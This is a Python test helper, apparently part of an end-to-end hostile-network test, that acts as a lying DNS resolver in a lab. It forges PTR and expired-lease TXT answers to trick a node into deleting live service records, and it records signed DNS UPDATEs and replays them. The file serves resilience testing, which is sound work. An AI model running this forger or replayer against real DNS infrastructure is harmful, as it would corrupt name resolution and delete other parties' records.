#!/usr/bin/env python3
"""An on-path resolver that lies (tests/e2e/widearea_hostile.sh): it stands in front of a real DNS
server (BIND 9 on the lab's router), relays queries and UPDATEs over UDP, and forges answers to make
a key-holding node delete what is not dead; it keeps every UPDATE it relayed for a replay later.

    forging_dns.py serve HOST PORT UPSTREAM TYPENAME SAVEFILE VICTIM...
        Relays to UPSTREAM:53. The PTR answer for TYPENAME (e.g. _wa._tcp.lab.test) gets one more
        PTR per VICTIM (instance names: a live peer's, another service's such as
        web._http._tcp.lab.test); a TXT query for a VICTIM is answered with a forged TXT whose
        lease ended long ago ("_d=forged" "_nb=2" "_lease=1000"). Each UPDATE is relayed as it is,
        and its bytes (hex) and the upstream's rcode are appended to SAVEFILE as a JSON line.
        Prints {"listening"} once, then one JSON line per UPDATE.
    forging_dns.py replay SAVEFILE UPSTREAM
        Sends every saved UPDATE to UPSTREAM:53 again, byte for byte (no key needed: they are
        signed already), and prints {"replayed": N, "rcodes": [...]}.
"""
import json
import socket
import struct
import sys

RCODES = {0: "NOERROR", 1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 5: "REFUSED", 6: "YXDOMAIN",
          7: "YXRRSET", 8: "NXRRSET", 9: "NOTAUTH", 10: "NOTZONE"}


def encode_name(text):
    out = b""
    for label in text.strip(".").split("."):
        out += bytes([len(label)]) + label.encode()
    return out + b"\x00"


def read_name(msg, at):
    """The name at `at` (lowercase, dotted) and the offset after it in place."""
    labels, end, hops = [], None, 0
    while True:
        n = msg[at]
        if n & 0xC0 == 0xC0:
            if end is None:
                end = at + 2
            at = (n & 0x3F) << 8 | msg[at + 1]
            hops += 1
            if hops > 32:
                raise ValueError("pointer loop")
            continue
        if n == 0:
            return ".".join(labels).lower(), (end if end is not None else at + 1)
        labels.append(msg[at + 1:at + 1 + n].decode("latin-1"))
        at += 1 + n


def question(msg):
    name, at = read_name(msg, 12)
    qtype = struct.unpack(">H", msg[at:at + 2])[0]
    return name, qtype, at + 4


def skip_records(msg, at, count):
    for _ in range(count):
        _, at = read_name(msg, at)
        rdlength = struct.unpack(">H", msg[at + 8:at + 10])[0]
        at += 10 + rdlength
    return at


def record(name, rtype, rdata, ttl=5):
    return encode_name(name) + struct.pack(">HHIH", rtype, 1, ttl, len(rdata)) + rdata


def relay(data, upstream):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        s.sendto(data, (upstream, 53))
        return s.recvfrom(65535)[0]


def forge_ptr(reply, typename, victims):
    """The real reply's question and answers, one more PTR per victim, NOERROR, and nothing after
    (the authority and additional sections may point into what moved)."""
    an = struct.unpack(">H", reply[6:8])[0]
    _, _, at = question(reply)
    end = skip_records(reply, at, an)
    extra = b"".join(record(typename, 12, encode_name(v)) for v in victims)
    flags = struct.unpack(">H", reply[2:4])[0] & 0xFFF0
    header = reply[:2] + struct.pack(">HHHHH", flags, 1, an + len(victims), 0, 0)
    return header + reply[12:end] + extra


def forged_txt(query, name):
    strings = [b"_d=forged", b"_nb=2", b"_lease=1000"]
    rdata = b"".join(bytes([len(s)]) + s for s in strings)
    _, _, at = question(query)
    flags = 0x8400 | (struct.unpack(">H", query[2:4])[0] & 0x0100)
    return query[:2] + struct.pack(">HHHHH", flags, 1, 1, 0, 0) + query[12:at] + record(name, 16, rdata)


def serve(host, port, upstream, typename, savefile, victims):
    typename = typename.strip(".").lower()
    victims = [v.strip(".").lower() for v in victims]
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((host, port))
    print(json.dumps({"listening": f"{host}:{port}"}), flush=True)
    while True:
        data, peer = sock.recvfrom(65535)
        try:
            opcode = data[2] >> 3 & 0x0F
            if opcode == 5:
                reply = relay(data, upstream)
                rcode = RCODES.get(reply[3] & 0x0F, str(reply[3] & 0x0F))
                with open(savefile, "a") as f:
                    f.write(json.dumps({"update": data.hex(), "rcode": rcode}) + "\n")
                print(json.dumps({"update": len(data), "rcode": rcode}), flush=True)
                sock.sendto(reply, peer)
                continue
            name, qtype, _ = question(data)
            if qtype == 16 and name in victims:
                sock.sendto(forged_txt(data, name), peer)
                continue
            reply = relay(data, upstream)
            if qtype == 12 and name == typename:
                reply = forge_ptr(reply, typename, victims)
            sock.sendto(reply, peer)
        except (OSError, ValueError, IndexError, struct.error) as error:
            print(json.dumps({"error": str(error)}), flush=True)


def replay(savefile, upstream):
    rcodes = []
    with open(savefile) as f:
        for line in f:
            data = bytes.fromhex(json.loads(line)["update"])
            try:
                reply = relay(data, upstream)
                rcodes.append(RCODES.get(reply[3] & 0x0F, str(reply[3] & 0x0F)))
            except OSError as error:
                rcodes.append(f"no answer: {error}")
    print(json.dumps({"replayed": len(rcodes), "rcodes": rcodes}), flush=True)


def main():
    if sys.argv[1] == "serve":
        serve(sys.argv[2], int(sys.argv[3]), sys.argv[4], sys.argv[5], sys.argv[6], sys.argv[7:])
    elif sys.argv[1] == "replay":
        replay(sys.argv[2], sys.argv[3])
    else:
        sys.exit("usage: forging_dns.py serve|replay ...")


if __name__ == "__main__":
    main()
